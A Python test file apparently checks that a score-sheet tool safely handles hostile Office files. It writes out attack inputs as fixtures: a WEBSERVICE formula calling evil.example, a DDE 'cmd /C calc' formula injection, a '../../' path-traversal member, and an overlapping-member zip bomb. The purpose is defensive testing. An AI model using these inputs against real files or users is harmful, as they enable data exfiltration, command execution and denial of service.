"""Tables from outside: what they link to stays outside, what is damaged is said to be.

Bombs, torn files and floods are in ``hostile/``.
"""

from __future__ import annotations

import io
import json
import random
import zipfile
from typing import TYPE_CHECKING

import pytest

from hostile.archives import changed
from places import EXAMPLES

from .running import DOCUMENT, DOSSIER
from .school import EVIL, relations
from .workbooks import SCORES, workbook

if TYPE_CHECKING:
    from pathlib import Path

    from .running import Command


def test_what_a_workbook_links_to_is_not_looked_at(plangen: Command, tmp_path: Path) -> None:
    data = workbook(
        *SCORES, ('=WEBSERVICE("http://evil.example/x")', 60), ("=cmd|' /C calc'!A0", 1)
    )
    links = relations(("rId1", "externalLinkPath", EVIL, True))
    hostile = changed(
        data,
        {
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": links,
            "xl/vbaProject.bin": b"macro",
            "../../坏了": b"a",
        },
    )
    (tmp_path / "成绩.xlsx").write_bytes(hostile)
    status, said = plangen("--format", "json", "scores", "成绩.xlsx")
    assert status in {0, 1}
    assert json.loads(said)
    assert {path.name for path in tmp_path.iterdir()} == {"成绩.xlsx"}


def overlapping(data: bytes, name: str, times: int) -> bytes:
    """Let a zip file name one and the same member again and again."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        (same,) = (info for info in archive.filelist if info.filename == name)
        archive.filelist.extend([same] * times)
        archive.comment = b"x"
    return buffer.getvalue()


@pytest.mark.parametrize("times", [10, 200, 6_000])
def test_members_that_overlap_do_not_add_up(plangen: Command, tmp_path: Path, times: int) -> None:
    huge = changed(workbook(*SCORES), {"xl/styles.xml": b" " * 1_000_000})
    (tmp_path / "成绩.xlsx").write_bytes(overlapping(huge, "xl/styles.xml", times))
    document = overlapping(DOCUMENT.read_bytes(), "word/document.xml", times)
    (tmp_path / "文稿.docx").write_bytes(document)
    for arguments in (
        ("scores", "成绩.xlsx"),
        ("check", "文稿.docx"),
        ("render", str(DOSSIER), "-o", "输出.docx", "--reference", "文稿.docx"),
    ):
        _, said = plangen(*arguments)
        assert "Traceback" not in said
        if times == 6_000:
            assert "太大" in said or "读不出" in said


def test_an_old_workbook_with_bytes_changed_is_read_or_refused(
    plangen: Command, tmp_path: Path
) -> None:
    (example,) = EXAMPLES.glob("*/期末成绩.xls")
    chance = random.Random(20260907)  # noqa: S311  (the same bytes in every run)
    for _ in range(60):
        data = bytearray(example.read_bytes())
        for _ in range(chance.randrange(1, 30)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        (tmp_path / "成绩.xls").write_bytes(data)
        status, said = plangen("scores", "成绩.xls")
        assert status in {0, 1}
        assert "Traceback" not in said
